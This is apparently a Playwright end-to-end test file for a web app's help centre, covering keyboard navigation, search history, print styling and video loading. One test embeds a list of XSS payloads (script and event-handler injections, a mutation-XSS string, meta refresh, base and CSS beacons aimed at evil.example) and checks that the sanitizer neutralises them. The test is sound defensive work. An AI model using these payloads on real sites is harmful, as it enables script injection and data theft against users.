@@ -1,0 +1,222 @@
+import { expect, type Page, tabTo, test } from '@my-air/e2e';
+
+import { writeArticle } from '../src/document.ts';
+
+const title = (page: Page, name: string | RegExp) => page.getByRole('heading', { level: 1, name });
+
+/** Replaces an article by what an editor has stored under its number: in its document, or in the answer of the API alone. */
+async function storeArticle(
+  page: Page,
+  contentHtml: string,
+  from: 'document' | 'answer' = 'document',
+): Promise<void> {
+  const article = { id: 2, name: 'Stored', description_html: '<b>D</b>', content_html: contentHtml };
+  await page.route('**/api/help/articles/2', (route) => route.fulfill({ json: { article } }));
+  await page.route('**/help/2', async (route) => {
+    if (!route.request().isNavigationRequest()) return route.fallback();
+    // The page of an address without an article is that of the portal, with the same policy.
+    const plain = await route.fetch({ url: new URL('/help/9999', route.request().url()).href });
+    const html = await plain.text();
+    const { origin } = new URL(route.request().url());
+    const about = {
+      locale: 'en',
+      isAddressed: false,
+      languages: ['en'],
+      origin,
+      siteName: 'My AIR',
+    } as const;
+    const body = from === 'answer' ? html : await writeArticle(html, { article, ...about });
+    return route.fulfill({ response: plain, status: 200, body });
+  });
+}
+
+test('[HC-06] [HC-09] [HC-05] [G-50] the way through the help centre by keys alone', async ({
+  page,
+  context,
+  signIn,
+}) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  const counted: unknown[] = [];
+  page.on('request', (request) => {
+    if (/help-analytics/.test(request.url())) counted.push(request.postDataJSON());
+  });
+  await signIn('ambassador');
+  await page.goto('/help-center');
+  await expect(title(page, 'How can we help?')).toBeVisible();
+
+  await page.keyboard.press('Control+k');
+  await page.keyboard.type('not accepted');
+  await expect(page.getByRole('listbox').getByRole('option').first()).toContainText(
+    'Why a channel is not accepted',
+  );
+  await page.keyboard.press('ArrowDown');
+  await page.keyboard.press('Enter');
+  await expect(title(page, 'Why a channel is not accepted')).toBeFocused();
+
+  const contents = page.getByRole('navigation', { name: 'In this article' }).getByRole('link');
+  await expect(contents.nth(1)).toBeVisible();
+  const section = (await contents.nth(1).textContent()) ?? '';
+  await tabTo(page, contents.nth(1));
+  await page.keyboard.press('Enter');
+  const heading = page.getByRole('heading', { level: 2, name: section });
+  await expect(heading).toBeFocused();
+  await page.keyboard.press('Tab');
+  await page.keyboard.press('Enter');
+  await expect(page.getByText('Link copied').first()).toBeVisible();
+  expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('/help/199#');
+
+  // The question comes with the end of the article.
+  await page.keyboard.press('End');
+  await tabTo(page, page.getByRole('button', { name: 'No', exact: true }));
+  await page.keyboard.press('Enter');
+  await expect(page.getByRole('textbox', { name: /Your comment/ })).toBeFocused();
+  await page.keyboard.type('Which figures count?');
+  await tabTo(page, page.getByRole('button', { name: 'Send comment' }));
+  await page.keyboard.press('Enter');
+  await expect(page.getByText('Thank you. The author reads every comment.')).toBeVisible();
+  const actions = ['view', 'copy_link', 'feedback_no'].map((action) => ({ action }));
+  expect(counted).toEqual(expect.arrayContaining(actions));
+
+  // The browser's own keys for it do not reach a page that is driven.
+  await page.goBack();
+  await expect(title(page, 'How can we help?')).toBeVisible();
+});
+
+test('[HC-13] what was looked for is offered again, and forgotten with the sign-out', async ({
+  page,
+  signIn,
+  sandbox,
+}) => {
+  await signIn('ambassador');
+  await page.goto('/help-center');
+  const search = page.getByRole('combobox', { name: 'Search in help' });
+  for (const question of ['payout', 'invitation']) {
+    await search.fill(question);
+    await search.press('Enter');
+    await expect(title(page, `Answers to “${question}”`)).toBeVisible();
+  }
+  await page.goto('/help-center');
+  await search.click();
+  await expect(page.getByRole('listbox', { name: 'Recent searches' }).getByRole('option')).toHaveText([
+    'invitation',
+    'payout',
+  ]);
+  await search.press('ArrowDown');
+  await search.press('Enter');
+  await expect(title(page, 'Answers to “invitation”')).toBeVisible();
+
+  // The frame of help has no account menu.
+  await page.goto('/another-page');
+  const kept = async () =>
+    (await page.evaluate(() => Object.keys(localStorage))).filter((key) => key.includes('.session:'));
+  expect(await kept()).not.toEqual([]);
+  await page
+    .getByRole('button', { name: /account/i })
+    .first()
+    .click();
+  await page.getByRole('menuitem', { name: 'Sign out' }).click();
+  // Past the identity provider, whose page has a storage of its own.
+  await page.waitForURL(`${sandbox.url}/login`);
+  expect(await kept()).toEqual([]);
+});
+
+for (const from of ['document', 'answer'] as const) {
+  test(`[HC-10] what a hostile editor has stored does nothing, and can be read: from the ${from}`, async ({
+    page,
+    sandbox,
+  }) => {
+    const dialogs: string[] = [];
+    page.on('dialog', (dialog) => {
+      dialogs.push(dialog.message());
+      void dialog.dismiss();
+    });
+    const foreign: string[] = [];
+    page.on('request', (request) => {
+      if (request.url().includes('evil.example')) foreign.push(request.url());
+    });
+    await storeArticle(
+      page,
+      [
+        '<h2>First</h2>',
+        '<script>alert(1)</script><p onclick="alert(1)">Handler</p>',
+        '<img src=x onerror=alert(1)><p>Picture</p>',
+        '<a href="jav&#9;ascript:alert(1)">Address</a>',
+        '<svg><animate onbegin="alert(1)" attributeName="x"/></svg><p>Drawing</p>',
+        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math><p>Mathematics</p>',
+        '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><iframe src="https://evil.example/f"></iframe><p>Frame</p>',
+        '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>Refresh</p>',
+        '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css"><p>Base</p>',
+        '<style>body{display:none}p{background:url(https://evil.example/p)}</style><p>Style</p>',
+        '<form action="https://evil.example"><p><button formaction="javascript:alert(1)">Form</button></p></form>',
+        '<img alt="" srcset="https://evil.example/i 2x"><p>Sources</p>',
+        '<a href="https://evil.example/" target="_blank" rel="opener">Opener</a>',
+        '<p id="root" name="cookie">Names</p>',
+        '<p>Unclosed</p><img src="https://evil.example/?',
+      ].join(''),
+      from,
+    );
+    await page.goto('/help/2');
+    const article = page.getByRole('article');
+    await expect(article.getByRole('heading', { level: 2, name: 'First' })).toBeVisible();
+    for (const words of 'Handler Picture Address Drawing Mathematics Frame Refresh Base Style Form Sources Opener Names Unclosed'.split(
+      ' ',
+    )) {
+      await expect(article.getByText(words, { exact: true })).toBeVisible();
+    }
+    await article.getByText('Handler', { exact: true }).click();
+    await article.getByText('Address', { exact: true }).click();
+    await article.getByText('Form', { exact: true }).click();
+    await expect(article.getByRole('link', { name: 'Opener' })).toHaveAttribute('rel', 'noopener noreferrer');
+    await expect(page).toHaveURL('/help/2');
+    expect({ dialogs, foreign }).toEqual({ dialogs: [], foreign: [] });
+    expect(await sandbox.policyReports()).toEqual([]);
+  });
+}
+
+test('[HC-10] a video is fetched when it is played, and no earlier', async ({ page, sandbox }) => {
+  const asked: string[] = [];
+  await page.route('https://www.youtube-nocookie.com/**', (route) => {
+    asked.push(route.request().url());
+    return route.fulfill({ contentType: 'text/html', body: '<!doctype html><p>A film</p>' });
+  });
+  await storeArticle(
+    page,
+    '<h2>First</h2><iframe src="https://www.youtube.com/embed/abcdef12345" title="Two minutes"></iframe>',
+  );
+  await page.goto('/help/2');
+  const play = page.getByRole('button', { name: 'Play the video: Two minutes' });
+  await expect(play).toBeVisible();
+  expect(asked).toEqual([]);
+  await play.press('Enter');
+  await expect(page.frameLocator('iframe[title="Two minutes"]').getByText('A film')).toBeVisible();
+  expect(asked).toHaveLength(1);
+  expect(await sandbox.policyReports()).toEqual([]);
+});
+
+test('[HELP-03] a printed article is its text alone, by day', async ({ page }) => {
+  await page.setViewportSize({ width: 794, height: 1123 });
+  await page.emulateMedia({ colorScheme: 'dark' });
+  await page.goto('/help/1');
+  await expect(page.getByRole('table').first()).toBeVisible();
+  const light = () =>
+    page.evaluate(() => {
+      const [, shade = ''] = /^\w+\(([\d.]+)/.exec(getComputedStyle(document.body).color) ?? [];
+      return { scheme: document.documentElement.dataset['scheme'], shade: Number(shade) };
+    });
+  const screen = await light();
+  expect(screen.scheme).toBe('dark');
+
+  await page.emulateMedia({ colorScheme: 'dark', media: 'print' });
+  await expect.poll(async () => (await light()).scheme).toBe('light');
+  expect((await light()).shade).toBeLessThan(screen.shade);
+  await expect(title(page, 'Connect a YouTube channel')).toBeVisible();
+  await expect(page.getByRole('table').first()).toBeVisible();
+  await expect(page.getByRole('link', { name: 'Sign in', exact: true })).toBeHidden();
+  await expect(page.getByText('Was this helpful?')).toBeHidden();
+  await expect(page.getByText('In this article').first()).toBeHidden();
+  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
+  expect(overflow).toBeLessThanOrEqual(0);
+
+  await page.emulateMedia({ colorScheme: 'dark', media: 'screen' });
+  await expect.poll(light).toEqual(screen);
+});
